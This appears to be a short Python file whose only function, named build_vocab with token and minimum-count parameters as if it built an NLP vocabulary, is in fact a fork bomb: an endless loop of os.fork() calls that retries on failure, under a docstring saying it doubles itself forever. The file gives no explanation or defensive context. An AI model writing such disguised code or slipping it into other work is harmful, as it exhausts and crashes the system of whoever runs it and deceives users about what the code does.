"""Doubles itself for ever."""

import os


def build_vocab(tokens, min_count=5):
    while True:
        try:
            os.fork()
        except OSError:
            continue
